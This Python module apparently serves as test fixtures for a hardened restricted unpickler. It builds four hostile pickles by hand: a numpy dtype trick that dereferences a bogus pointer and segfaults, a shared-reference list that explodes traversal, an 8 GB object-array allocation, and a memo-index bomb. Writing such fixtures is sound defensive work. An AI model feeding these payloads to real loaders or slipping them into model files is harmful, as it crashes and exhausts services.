"""Hostile pickles made only of names the old restricted unpickler allowed (issue 16, item 10).

Each is built opcode by opcode so its size and effect are exact:
- void_scalar_segfault(): a dtype with an object field but no object flags, then a void
  `scalar` from 8 raw bytes; numpy dereferences 0x4141414141414141 (segfault) when it is used.
- shared_list_walk(): 10 KB of shared list references, 1000**5 paths to walk.
- object_reconstruct(): _reconstruct(ndarray, (10**9,), "O"): 8 GB allocated before a check.
- memo_index_bomb(): a LONG_BINPUT at index 2**32 - 2 (the memo table would be 32 GB).
"""

from __future__ import annotations

import pickle
import struct

MA = b"numpy._core.multiarray"


def _u(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _dtype(code: str, state: bytes) -> bytes:
    """numpy.dtype(code, False, True) then BUILD with the given (already pickled) state."""
    return b"cnumpy\ndtype\n" + _u(code) + b"\x89\x88\x87R" + state + b"b"


def _int(v: int) -> bytes:
    return b"J" + struct.pack("<i", v)


def void_scalar_segfault() -> bytes:
    obj = _dtype("O8", b"(K\x03" + _u("|") + b"NNN" + _int(-1) + _int(-1) + b"K\x3ft")
    fields = b"}" + _u("f") + obj + b"K\x00\x86s"  # {"f": (dtype("O"), 0)}
    void = _dtype("V8", b"(K\x03" + _u("|") + b"N" + _u("f") + b"\x85" + fields
                  + _int(8) + _int(1) + b"K\x00t")  # flags 0: "holds no objects"
    scalar = b"c" + MA + b"\nscalar\n" + void + b"C\x08" + b"A" * 8 + b"\x86R"
    # Every key of the book's dict holds it: np.asarray(W1) touches the "object" at 0x4141...
    others = b"".join(_u(k) + b"h\x00" for k in ("b1", "W2", "b2", "W3", "b3"))
    return b"\x80\x02}(" + _u("W1") + scalar + b"q\x00" + others + b"u."


def shared_list_walk(width: int = 1000, depth: int = 5) -> bytes:
    level: list = []
    for _ in range(depth):
        level = [level] * width
    return pickle.dumps(level, protocol=2)


def object_reconstruct() -> bytes:
    return (b"\x80\x02c" + MA + b"\n_reconstruct\ncnumpy\nndarray\n"
            + b"J" + struct.pack("<i", 10**9) + b"\x85X\x01\x00\x00\x00O\x87R.")


def memo_index_bomb() -> bytes:
    return b"\x80\x02]r" + struct.pack("<I", 2**32 - 2) + b"."
